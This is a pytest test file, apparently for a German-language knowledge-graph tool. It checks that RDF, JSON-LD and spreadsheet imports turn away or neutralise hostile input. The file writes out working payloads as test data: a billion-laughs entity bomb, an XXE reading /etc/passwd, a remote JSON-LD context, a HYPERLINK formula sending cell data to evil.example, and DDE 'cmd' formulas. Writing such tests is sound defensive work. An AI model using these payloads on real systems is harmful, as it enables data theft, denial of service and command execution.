"""Hostile RDF files: refused with a clear message before they can cost memory or reach the network.

Each case is a file an attacker (or a careless export) could hand to ``ikg import``; the store
must be left exactly as it was.
"""

from __future__ import annotations

import http.server
import json
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any, ClassVar

import pytest

from ikg.graph.errors import InputError
from ikg.graph.ingest import import_rdf
from ikg.graph.store import Store

GRAPH = "https://example.org/g"
RDF_HEAD = (
    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://example.org/">'
    '<rdf:Description rdf:about="http://example.org/s"><ex:p>{body}</ex:p></rdf:Description></rdf:RDF>'
)


def _laughs(levels: int) -> str:
    """The 'billion laughs': ``levels`` nested entities, each ten of the one before."""
    ents = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, levels + 1))
    return f'<?xml version="1.0"?><!DOCTYPE rdf:RDF [ {ents} ]>' + RDF_HEAD.format(body=f"&l{levels};")


def _size(store: Store) -> int:
    return len(store._ox)


def test_entity_expansion_bomb_is_refused_at_once(store: Store, tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.rdf"
    bomb.write_text(_laughs(9), encoding="utf-8")  # 748 bytes; expanded, 3 GB
    assert bomb.stat().st_size < 1000
    before = _size(store)
    started = time.perf_counter()
    with pytest.raises(InputError) as info:
        import_rdf(store, bomb, GRAPH)
    assert time.perf_counter() - started < 2
    (problem,) = info.value.problems
    assert problem.code == "xml_doctype"
    assert "DOCTYPE" in problem.message("en") and "Gigabytes" in problem.message("de")
    assert _size(store) == before


@pytest.mark.parametrize(
    ("name", "text", "encoding"),
    [
        ("external entity", '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + RDF_HEAD.format(body="&x;"), "utf-8"),
        ("plain doctype", "<!DOCTYPE rdf:RDF>" + RDF_HEAD.format(body="x"), "utf-8"),
        ("utf-16 with a byte order mark", _laughs(3), "utf-16"),
        ("utf-16 big endian", _laughs(3), "utf-16-be"),
    ],
)
def test_any_doctype_is_refused(store: Store, tmp_path: Path, name: str, text: str, encoding: str) -> None:
    path = tmp_path / "x.rdf"
    path.write_bytes(text.encode(encoding))
    with pytest.raises(InputError) as info:
        import_rdf(store, path, GRAPH)
    assert [p.code for p in info.value.problems] == ["xml_doctype"], name


def test_rdf_xml_without_doctype_still_imports(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "ok.rdf"
    path.write_text('<?xml version="1.0"?>' + RDF_HEAD.format(body="Sprache"), encoding="utf-8")
    result = import_rdf(store, path, GRAPH)
    assert result.triples == 1


class _Recorder(http.server.BaseHTTPRequestHandler):
    hits: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        _Recorder.hits.append(self.path)
        body = b'{"@context": {"name": "http://schema.org/name"}}'
        self.send_response(200)
        self.send_header("Content-Type", "application/ld+json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        return None


@pytest.fixture
def context_server() -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    _Recorder.hits = []
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/context.jsonld"
    finally:
        server.shutdown()
        server.server_close()


def test_jsonld_with_a_remote_context_is_refused_and_never_fetched(
    store: Store, tmp_path: Path, context_server: str
) -> None:
    path = tmp_path / "x.jsonld"
    path.write_text(f'{{"@context": "{context_server}", "@id": "http://example.org/s", "name": "x"}}', encoding="utf-8")
    before = _size(store)
    with pytest.raises(InputError) as info:
        import_rdf(store, path, GRAPH)
    assert [p.code for p in info.value.problems] == ["jsonld_remote_context"]
    assert "Kontext in die Datei einbetten" in info.value.problems[0].message("de")
    assert _Recorder.hits == []
    assert _size(store) == before


def test_jsonld_with_an_inline_context_imports(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "x.jsonld"
    path.write_text(
        '{"@context": {"name": "http://schema.org/name"}, "@id": "http://example.org/s", "name": "x"}', encoding="utf-8"
    )
    assert import_rdf(store, path, GRAPH).triples == 1


# --- spreadsheets ---------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Klick")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


def _workbook_with_formulas(path: Path) -> Path:
    """SMALL as an XLSX whose three extra actors are named by formulas (openpyxl stores them as formulas)."""
    import openpyxl

    from .conftest import SMALL

    wb = openpyxl.Workbook(write_only=True)
    for name, rows in SMALL.items():
        ws = wb.create_sheet(name)
        for row in rows:
            ws.append(row)
        if name == "akteure":
            for k, formula in enumerate(FORMULAS):
                ws.append([f"formel-{k}", formula, "verein", "", "", ""])
    wb.save(path)
    return path


def test_formulas_are_data_and_neutralised_in_csv_output(tmp_path: Path, run_ikg: Any) -> None:
    import csv
    import io
    import zipfile

    book = _workbook_with_formulas(tmp_path / "formeln.xlsx")
    with zipfile.ZipFile(book) as z:  # the cells really are formulas, not text
        sheets = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert sheets.count("<f>") == 2  # the two starting with "="; "@..." is a text cell
    run_ikg("--no-seed", "import", str(book), check=True)
    out = run_ikg("--no-seed", "metrics", "--format", "csv", check=True).stdout
    rows = list(csv.reader(io.StringIO(out)))
    labels = {r[rows[0].index("label")] for r in rows[1:]}
    for formula in FORMULAS:
        assert "'" + formula in labels  # stored as the text typed, written with a leading apostrophe
    assert not any(cell.startswith(("=", "@")) for r in rows for cell in r)
    plain = run_ikg("--no-seed", "metrics", "--format", "json", check=True).stdout
    assert json.loads(plain)["actors"] and FORMULAS[0] in {a["label"] for a in json.loads(plain)["actors"]}
